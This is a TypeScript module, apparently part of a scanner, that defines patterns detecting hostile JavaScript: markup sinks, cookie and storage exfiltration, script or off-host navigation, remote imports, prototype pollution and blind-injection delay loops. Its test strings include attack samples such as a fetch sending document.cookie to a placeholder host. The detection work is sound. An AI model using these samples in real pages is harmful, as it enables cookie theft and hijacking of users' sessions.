// JavaScript that changes the page, reads its secrets or leads the browser elsewhere.
import { DIGIT, WHITESPACE, WORD } from "../../char-classes.ts";
import { charSetExcept } from "../../char-set.ts";
import { choice, keyword, lit, not, oneOf, opt, peek, run, seq } from "../../combinators.ts";
import { afterOneOfAndOws, atWordStart } from "../../look-behind.ts";
import type { Matcher } from "../../matcher.ts";
import { pattern, type Pattern } from "../../pattern.ts";
import { end, identifier, ows, owsAndComments, quote } from "../../tokens.ts";
import { endsText, startsText } from "../lone-text.ts";
import { computedMember, jsDot, jsMember } from "../member-access.ts";

/** A call with parentheses or with a template: document.write`…`. Not the closing backtick of Markdown. */
const call: Matcher = seq(
  owsAndComments,
  choice(lit("("), seq(lit("`"), not(choice(run(WHITESPACE, 1, 1), oneOf(".,:;?!)-"), end)))),
);
const assignment = seq(ows, opt(lit("+")), lit("="), not(lit("=")));
const emptyString = seq(ows, choice(lit("''"), lit('""'), lit("``")), not(seq(ows, lit("+"))));
const scriptOrForeignUrl = choice(lit("javascript:"), lit("data:"), seq(lit("//"), run(WORD, 1, 1)));

export const PAGE: readonly Pattern[] = [
  pattern("js.inner-html", ["innerhtml", "outerhtml"], {
    catches: "an assignment of markup to an element",
    finds: [
      "list.innerHTML = text",
      "list.outerHTML += text",
      "list['innerHTML'] = text",
      "x.innerHTML=''+y",
    ],
    ignores: [
      "What is innerHTML?",
      "list.innerHTML = '';",
      'list.innerHTML = "";',
      "list.innerHTML = ``",
      "if (list.innerHTML === text) return;",
      "myinnerHTML = text",
    ],
    before: atWordStart,
    after: seq(opt(seq(quote, ows, lit("]"))), assignment, not(emptyString)),
  }),
  pattern("js.document-write", ["document"], {
    catches: "a call of document.write",
    finds: [
      "document.write(text)",
      "document . writeln ( text )",
      "document?.write(text)",
      "document ?. write(text)",
      "document['write'](text)",
      "document['writeln'](text)",
      "document?.['write'](text)",
      "document/*x*/.write(text)",
      "document.write`<b>`",
    ],
    ignores: [
      "When should I avoid document.write?",
      "Avoid `document.write` in new code, `document.write`.",
      "Never call `document.write`",
      "mydocument.write(text)",
      "the document. Write (in pencil) below",
      "document.writer(text)",
    ],
    before: atWordStart,
    after: seq(jsMember(["write", "writeln"]), call),
  }),
  pattern("js.cookie", ["document"], {
    catches: "cookies of the page, read by a computed name",
    finds: ["document['cookie']", 'document?.["cookie"]', "document[ 'coo' + 'kie' ]"],
    ignores: ["document['title']", "mydocument['cookie']"],
    before: atWordStart,
    after: computedMember(["cookie"]),
  }),
  pattern("js.cookie", ["document", "localstorage"], {
    catches: "cookies or storage of the page, passed to a function or added to a URL",
    finds: [
      "fetch('//x.example/?' + document.cookie)",
      "send(document . cookie)",
      "send('//x.example', document.cookie)",
      "`${document.cookie}`",
      "alert(document/*x*/.cookie)",
      "x='//x.example/'+document.domain",
      "go(!document.cookie",
      "{document.cookie}",
      "`//x.example/?`+localStorage.getItem",
    ],
    ignores: [
      "const pairs = document.cookie.split(';')",
      "document.cookie = 'theme=dark'",
      "let cookies = document.cookie;",
      "read(document.title)",
      "(the whole document. Cookie)",
      "read(document.cookies)",
      "read(document.cookie.length)",
    ],
    before: afterOneOfAndOws("(+!{`,"),
    after: seq(jsDot, keyword(["cookie", "domain", "getitem"]), peek(choice(seq(ows, oneOf(")+}`;")), end))),
  }),
  pattern("js.lone-member", ["document", "window"], {
    catches: "a text that consists of a property of the page",
    finds: ["document.cookie", "window . location;", "';document.domain//", "document . body"],
    ignores: ["window.location is slow", "Read document.cookie", "document.title", "x document.cookie"],
    guard: startsText,
    after: seq(jsDot, keyword(["cookie", "location", "domain", "body"]), endsText),
  }),
  pattern("js.navigation", ["location", "location.href", "location.replace", "location.assign"], {
    catches: "a navigation to a script or to another host without a scheme",
    finds: [
      "location='javascript:go()'",
      'window.location.href = "data:text/html,x"',
      "location.replace('//x.example')",
      "location.assign ( '//x.example' )",
      "location=//x.example",
    ],
    ignores: [
      "window.location.href = 'https://example.com/login';",
      "location = '/login'",
      "allocation='//x'",
      "location.reload('//x.example')",
    ],
    before: atWordStart,
    after: seq(ows, oneOf("=("), ows, opt(quote), scriptOrForeignUrl),
  }),
  pattern("js.bad-import", ["import"], {
    catches: "a module imported by a call from another host or from a data URL",
    finds: [
      "import('http://x.example/a')",
      "import('https://x.example/a')",
      "import('//x.example/a.js')",
      "import ( `data:text/javascript,1` )",
    ],
    ignores: ["import('./page.js')", "reimport('//x')", "import(name)"],
    before: atWordStart,
    after: seq(ows, lit("("), ows, quote, choice(lit("//"), lit("data:"), lit("http:"), lit("https:"))),
  }),
  pattern("js.prototype", ["__proto__", "constructor.prototype", "constructor[prototype]"], {
    catches: "a property name that changes the prototype of all objects",
    finds: [
      '{"__proto__": {"admin": true}}',
      "?__proto__[admin]=1",
      "a[__proto__][admin]=1",
      'x["__proto__"]["admin"] = 1',
      "constructor[prototype][admin]=1",
      '{"constructor.prototype": {}}',
    ],
    ignores: [
      "Dog.prototype.__proto__ = Animal.prototype",
      "this.constructor.prototype.name",
      "What is `__proto__`?",
      "Object.getPrototypeOf(x) === x.__proto__",
    ],
    after: choice(
      seq(lit("["), run(WORD, 1, 24), lit("]")),
      seq(quote, ows, choice(lit(":"), seq(lit("]"), ows, oneOf("[=")))),
      seq(lit("]"), oneOf("[.=")),
    ),
  }),
  pattern("js.busy-wait", ["while"], {
    catches: "a loop that waits for a time difference, as blind injections use it",
    finds: ["do{b=new Date()}while(b-a<20000)", "while ( now - start < 5000 ) {}"],
    ignores: ["while (high - low > 1) {", "while (a - b < c)", "while (i < 5000)", "meanwhile (b-a<5000)"],
    precededBy: charSetExcept(WORD),
    after: seq(
      ows,
      lit("("),
      ows,
      identifier,
      ows,
      lit("-"),
      ows,
      identifier,
      ows,
      lit("<"),
      ows,
      run(DIGIT, 4, 12),
    ),
  }),
];
